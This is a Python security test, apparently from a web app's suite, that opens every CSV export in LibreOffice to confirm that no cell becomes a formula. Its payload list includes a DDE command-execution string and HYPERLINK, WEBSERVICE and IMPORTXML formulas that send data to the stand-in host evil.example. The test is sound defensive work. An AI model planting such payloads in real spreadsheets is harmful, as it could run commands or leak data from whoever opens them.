"""Every CSV that the site offers, opened by LibreOffice: no cell is a formula, and every word comes back (R27, T6).

LibreOffice reads the file as it would for somebody who double-clicks on it, and says of each cell what it took it for.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from unittest.mock import patch
from xml.etree.ElementTree import Element, parse

from coprod.consultations.rules import Stage
from coprod.statistics import spreadsheet
from soak.hostile import sowing
from soak.hostile.asking import ask
from soak.hostile.ground import Ground, a_ground
from soak.hostile.shapes import Message
from soak.report import Report, alone
from tests.house.answers import routes
from tests.house.parts import parts as parts_of

PROMISE = "No spreadsheet that the site offers runs anything in the program that opens it"
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "\t=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "－1+1",
    "'=1+1",
    '"=1+1"',
    '=HYPERLINK("http://evil.example/?"&A1;"x")',
    "=cmd|' /C calc'!A0",
    "=WEBSERVICE(\"http://evil.example/\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/\";A1);\"//a\")",
    "-2+3+cmd|' /C calc'!A0",
    "plain words\n=1+1",
    "1;=1+1",
    "a,=1+1",
    'say "so",=1+1',
    "{=1+1}",
    "#=1+1",
)  # fmt: skip
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
# Commas, quotes, UTF-8 (its dialog takes it from the mark at the beginning), from the first line on. Whatever looks
# like a number or a formula becomes one, although it stands in quotes: that is how it is set unless somebody says else.
AS_A_PERSON = "Text - txt - csv (StarCalc):44,34,76,1"
LONGEST = 300


@dataclass(frozen=True)
class Opened:
    """What LibreOffice makes of a file: how many cells, which of them are formulas, and the words in each."""

    cells: int
    formulas: list[str]
    words: list[str]


def opened(files: dict[str, bytes]) -> dict[str, Opened]:
    """Open them all, in one start of LibreOffice, with the settings of somebody who has never changed any."""
    with tempfile.TemporaryDirectory() as folder:
        place = Path(folder)
        for name, content in files.items():
            (place / f"{name}.csv").write_bytes(content)
        command = [
            "soffice",
            f"-env:UserInstallation=file://{place}/profile",
            "--headless",
            f"--infilter={AS_A_PERSON}",
            "--convert-to",
            "fods",
        ]
        command += ["--outdir", str(place), *(str(place / f"{name}.csv") for name in files)]
        # Elsewhere than in a place of UTF-8 it would not believe the file.
        in_utf_8 = {**os.environ, "LC_ALL": "C.UTF-8"}
        subprocess.run(command, check=True, capture_output=True, timeout=LONGEST, env=in_utf_8)
        return {name: _read(place / f"{name}.fods") for name in files}


def _read(path: Path) -> Opened:
    formulas, words = list[str](), list[str]()
    for row in parse(path).iter(f"{TABLE}table-row"):  # noqa: S314 - written by LibreOffice just now
        found = list[str]()
        for cell in row.iter(f"{TABLE}table-cell"):
            if formula := cell.get(f"{TABLE}formula"):
                formulas.append(formula)
            told = "\n".join(_words(each) for each in cell.findall(f"{TEXT}p"))
            found += [told] * (int(cell.get(f"{TABLE}number-columns-repeated", "1")) if told else 1)
        words += found * (int(row.get(f"{TABLE}number-rows-repeated", "1")) if any(found) else 1)
    return Opened(sum(map(bool, words)), formulas, words)


def _words(paragraph: Element) -> str:
    """The text of a paragraph, with the blanks that the format writes as elements."""
    told = ""
    for each in paragraph.iter():
        told += {f"{TEXT}s": " " * int(each.get(f"{TEXT}c", "1")), f"{TEXT}tab": "\t"}.get(each.tag, "")
        told += each.text or ""
        told += (each.tail or "") if each is not paragraph else ""
    return told


def offered(ground: Ground) -> Iterator[tuple[str, bytes]]:
    """Every CSV file that any address offers to somebody who leads, at every stage."""
    lead = ground.people["lead"]
    for route in routes(ground.app):
        if not route.rule.endswith(".csv"):
            continue
        for stage in Stage:
            things = parts_of(route, ground.world, ground.world.own, stage)
            with ground.app.test_request_context("/"):
                address = ground.app.url_for(route.endpoint, **things)
            reply = ask(ground.app, address, Message(method="GET"), lead.cookie)
            if reply.status == 200:
                yield f"{route.endpoint}-{stage.value}", reply.body


def cells_of(content: bytes) -> list[str]:
    """The words of every cell of a CSV file, as they were before the file was made."""
    read = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True)
    return [spreadsheet.read_back(cell) for row in read for cell in row]


def run(report: Report, *, short: bool = False) -> None:
    """Each formula in every cell of every file, all at once; then the same files without a guard."""
    formulas = FORMULAS[:3] if short else FORMULAS
    with a_ground() as ground:
        guarded = files(ground, formulas)
        with patch("coprod.statistics.spreadsheet.guarded", str):
            raw = files(ground, formulas)
    seen = opened(guarded)
    found = [f"{name}: {formula}" for name, each in seen.items() for formula in each.formulas]
    changed = [name for name, each in seen.items() if not _came_back(guarded[name], each)]
    report.figures(
        "files", opened=len(seen), cells=sum(each.cells for each in seen.values()), formulas=len(found)
    )
    for line in (found + changed)[:10]:
        report.say(line)
    report.must("0 cells are formulas", bool(seen) and not found)
    report.must("every word comes back as it was", not changed)
    unguarded = opened(raw)
    report.control(
        f"of files without a guard {sum(bool(each.formulas) for each in unguarded.values())} hold formulas",
        any(each.formulas for each in unguarded.values()),
    )


def files(ground: Ground, formulas: tuple[str, ...]) -> dict[str, bytes]:
    """The files of a world in which everybody has written the same formula everywhere, for each formula."""
    found: dict[str, bytes] = {}
    for number, words in enumerate(formulas):
        ground.put_back()
        sowing.sow(ground, words)
        found |= {f"{number}-{name}": content for name, content in offered(ground)}
    return found


def _came_back(content: bytes, seen: Opened) -> bool:
    """Whether LibreOffice shows every cell that is not empty with the words that were written."""
    shown = [spreadsheet.read_back(words) for words in seen.words]
    return _plain(shown) == _plain(cells_of(content))


def _plain(cells: list[str]) -> list[str]:
    """Without what a spreadsheet shows otherwise: empty cells, and marks that cannot be seen."""
    return [words for cell in cells if (words := cell.replace("\ufeff", "").replace("\r", ""))]


if __name__ == "__main__":
    sys.exit(alone(PROMISE, run))
